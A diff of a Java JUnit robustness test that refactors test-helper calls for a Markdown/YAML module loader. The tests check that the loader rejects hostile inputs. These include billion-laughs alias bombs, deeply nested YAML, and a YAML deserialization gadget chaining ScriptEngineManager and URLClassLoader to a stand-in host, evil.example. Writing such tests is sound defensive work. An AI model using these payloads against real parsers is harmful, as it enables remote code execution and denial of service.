@@ -10,6 +10,7 @@ import java.nio.charset.StandardCharsets;
 import java.nio.file.Path;
 import java.util.Random;
 
+import org.clockwise.content.testing.TestLibrary;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
@@ -25,7 +26,7 @@ class RobustnessTest {
     Path dir;
 
     private LoadResult loadModule(String body) {
-        return assertTimeoutPreemptively(ofSeconds(10), () -> TestLibrary.in(dir).module("m", body).load());
+        return assertTimeoutPreemptively(ofSeconds(10), () -> TestLibrary.in(dir).moduleWithBody("m", body).load());
     }
 
     @Test
@@ -85,7 +86,7 @@ class RobustnessTest {
     @Test
     void aFiveMegabyteFile() {
         byte[] big = (TestLibrary.frontMatter("m") + "word ".repeat(1_000_000)).getBytes(StandardCharsets.UTF_8);
-        LoadResult result = assertTimeoutPreemptively(ofSeconds(10), () -> TestLibrary.in(dir).bytes(M, big).load());
+        LoadResult result = assertTimeoutPreemptively(ofSeconds(10), () -> TestLibrary.in(dir).write(M, big).load());
         assertProblem(result, M, 1, "file too large: 4.8 MB, the limit is 1 MB per module");
         assertProblem(loadWithOverride("modules/m.md", new String(big, StandardCharsets.UTF_8)), M, 1, "file too large");
     }
@@ -100,7 +101,7 @@ class RobustnessTest {
     void binaryJunk() {
         byte[] junk = new byte[200_000];
         new Random(42).nextBytes(junk);
-        LoadResult result = assertTimeoutPreemptively(ofSeconds(10), () -> TestLibrary.in(dir).bytes(M, junk).load());
+        LoadResult result = assertTimeoutPreemptively(ofSeconds(10), () -> TestLibrary.in(dir).write(M, junk).load());
         assertTrue(result.problemsIn(M).stream().anyMatch(p -> p.message().startsWith("not UTF-8")), ProblemAssert.all(result));
     }
 
@@ -112,7 +113,7 @@ class RobustnessTest {
 
     @Test
     void billionLaughsInFrontMatter() {
-        StringBuilder yaml = new StringBuilder("---\nid: m\ntitle: T\nsummary: S\nskills: [discovery]\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
+        StringBuilder yaml = new StringBuilder("---\nid: m\ntitle: T\nsummary: S\nskills: [discovery-questioning]\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
         for (char c = 'b'; c <= 'z'; c++) {
             char p = (char) (c - 1);
             yaml.append(c).append(": &").append(c).append(" [*").append(p).append(",*").append(p).append(",*").append(p)
@@ -120,33 +121,33 @@ class RobustnessTest {
                     .append(p).append(",*").append(p).append("]\n");
         }
         LoadResult result = assertTimeoutPreemptively(ofSeconds(10),
-                () -> TestLibrary.in(dir).file(M, yaml + "---\nText.\n").load());
+                () -> TestLibrary.in(dir).write(M, yaml + "---\nText.\n").load());
         assertProblem(result, M, 2, "too many YAML aliases");
     }
 
     @Test
     void billionLaughsInTheCatalog() {
-        StringBuilder yaml = new StringBuilder("skills:\n  - id: discovery\n    name: D\nx0: &x0 [a, a, a, a, a, a, a, a, a, a]\n");
+        StringBuilder yaml = new StringBuilder("skills:\n  - id: discovery-questioning\n    name: D\nx0: &x0 [a, a, a, a, a, a, a, a, a, a]\n");
         for (int i = 1; i < 30; i++) {
             yaml.append("x").append(i).append(": &x").append(i).append(" [")
                     .append(("*x" + (i - 1) + ", ").repeat(9)).append("*x").append(i - 1).append("]\n");
         }
         LoadResult result = assertTimeoutPreemptively(ofSeconds(10),
-                () -> TestLibrary.in(dir).file("catalog.yml", yaml.toString()).aModule("intro").load());
+                () -> TestLibrary.in(dir).write("catalog.yml", yaml.toString()).module("intro").load());
         assertProblem(result, "catalog.yml", 1, "too many YAML aliases");
     }
 
     @Test
     void recursiveYamlAlias() {
         LoadResult result = assertTimeoutPreemptively(ofSeconds(10), () -> TestLibrary.in(dir)
-                .file(M, "---\nid: m\ntitle: T\nsummary: S\nskills: &s [discovery, *s]\n---\nText.\n").load());
+                .write(M, "---\nid: m\ntitle: T\nsummary: S\nskills: &s [discovery-questioning, *s]\n---\nText.\n").load());
         assertFalse(result.isClean());
     }
 
     @Test
     void deeplyNestedYaml() {
         LoadResult result = assertTimeoutPreemptively(ofSeconds(10), () -> TestLibrary.in(dir)
-                .file(M, "---\nid: m\ntitle: T\nsummary: S\nskills: " + "[".repeat(5_000) + "]".repeat(5_000) + "\n---\nText.\n")
+                .write(M, "---\nid: m\ntitle: T\nsummary: S\nskills: " + "[".repeat(5_000) + "]".repeat(5_000) + "\n---\nText.\n")
                 .load());
         assertProblem(result, M, 2, "YAML nested too deeply");
     }
@@ -154,25 +155,25 @@ class RobustnessTest {
     @Test
     void yamlTypeTagsAreNeverInstantiated() {
         LoadResult result = assertTimeoutPreemptively(ofSeconds(10), () -> TestLibrary.in(dir)
-                .file(M, "---\nid: m\ntitle: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
-                        + "[\"http://evil.example/\"]]]]\nsummary: S\nskills: [discovery]\n---\nText.\n").load());
+                .write(M, "---\nid: m\ntitle: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
+                        + "[\"http://evil.example/\"]]]]\nsummary: S\nskills: [discovery-questioning]\n---\nText.\n").load());
         assertTrue(result.problemsIn(M).stream().anyMatch(p -> p.message().contains("unreadable YAML")), ProblemAssert.all(result));
     }
 
     @Test
     void hugeCatalog() {
         LoadResult result = assertTimeoutPreemptively(ofSeconds(10), () -> TestLibrary.in(dir)
-                .file("catalog.yml", "skills:\n" + "  - id: s\n    name: S\n".repeat(60_000)).aModule("intro").load());
+                .write("catalog.yml", "skills:\n" + "  - id: s\n    name: S\n".repeat(60_000)).module("intro").load());
         assertProblem(result, "catalog.yml", 1, "file too large");
     }
 
     @Test
     void everyKindOfJunkAtOnce() {
         LoadResult result = assertTimeoutPreemptively(ofSeconds(20), () -> TestLibrary.in(dir)
-                .file("modules/a.md", ">".repeat(10_000))
-                .file("modules/b.md", "[".repeat(10_000))
-                .bytes("modules/c.md", new byte[] {(byte) 0xFF, (byte) 0xFE, 0, 0})
-                .file("modules/d.md", "---\n" + "a: &a [1]\n".repeat(1) + "---\n")
+                .write("modules/a.md", ">".repeat(10_000))
+                .write("modules/b.md", "[".repeat(10_000))
+                .write("modules/c.md", new byte[] {(byte) 0xFF, (byte) 0xFE, 0, 0})
+                .write("modules/d.md", "---\n" + "a: &a [1]\n".repeat(1) + "---\n")
                 .load());
         assertTrue(result.filesWithProblems() >= 4, ProblemAssert.all(result));
     }
